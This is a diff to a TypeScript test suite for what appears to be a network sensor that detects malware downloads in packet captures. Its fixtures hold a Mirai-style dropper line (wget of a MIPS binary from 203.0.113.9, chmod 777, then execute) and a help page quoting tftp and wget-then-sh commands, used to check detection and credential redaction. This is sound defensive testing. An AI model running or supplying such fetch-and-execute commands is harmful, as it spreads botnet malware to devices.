@@ -66,6 +66,34 @@ const told = async (dialogues: readonly Dialogue[], ends = FAR) => steps(dialogu
 
 const FILE = elf({ size: 40_000 })
 
+describe('what a reader may not learn', () => {
+  it('is not told: passwords and tokens in addresses', async () => {
+    const script = '#!/bin/sh\nwget http://admin:hunter2@203.0.113.9/x.mips?token=SECRET; chmod 777 x.mips; ./x.mips\n'
+    const ask = (target: string) => get(target, 'eve:hunter2@203.0.113.9')
+    const answer = `${ok(`Content-Length: ${script.length}\r\n`)}${script}`
+    const turns = (target: string): Turn[] => [
+      ['client', ask(target)],
+      ['server', answer],
+    ]
+    const found = await told([
+      { serverPort: 8081, turns: turns('/i.sh?token=SECRET') },
+      { serverPort: 8081, turns: turns('http://bob:hunter2@203.0.113.9/i.sh?token=SECRET') },
+    ])
+    expect(found.length).toBeGreaterThan(0)
+    expect(JSON.stringify(found)).toContain('203.0.113.9/x.mips')
+    expect(JSON.stringify(found)).not.toMatch(/hunter2|SECRET/)
+  })
+
+  it('a page that speaks of commands is no script', async () => {
+    const page = '<html><p>Use tftp 192.168.1.9 -g -r a.bin, then sh restore or wget http://192.168.1.9/a.sh; sh a.sh</p></html>'
+    const turns: Turn[] = [
+      ['client', get('/help', '192.168.1.20:8081')],
+      ['server', `${ok(`Content-Length: ${page.length}\r\n`)}${page}`],
+    ]
+    expect(await told([{ serverPort: 8081, turns }], NEAR)).toEqual([])
+  })
+})
+
 describe('a program in pieces', () => {
   /** Three bytes a packet: nobody sees a request or a program in one of them. */
   const pieces = (file: Uint8Array, host?: string): Dialogue => {
@@ -85,7 +113,7 @@ describe('a program in pieces', () => {
     const [step, ...more] = await told([pieces(small)])
     expect(more).toEqual([])
     expect(step).toMatchObject({ stage: 'fetched', severity: 'high', role: 'target', count: 1 })
-    expect(step!.says).toContain('http://203.0.113.9/bins/mirai.mips (not whole in the capture, so without a hash)')
+    expect(step!.says).toContain('http://203.0.113.9/bins/mirai.mips (in pieces, so without a hash)')
     // in whole packets it is the sensor's, which has the hash
     expect(await told([download(small)])).toMatchObject([{ count: 1, detail: { sha256: sha(small) } }])
   })
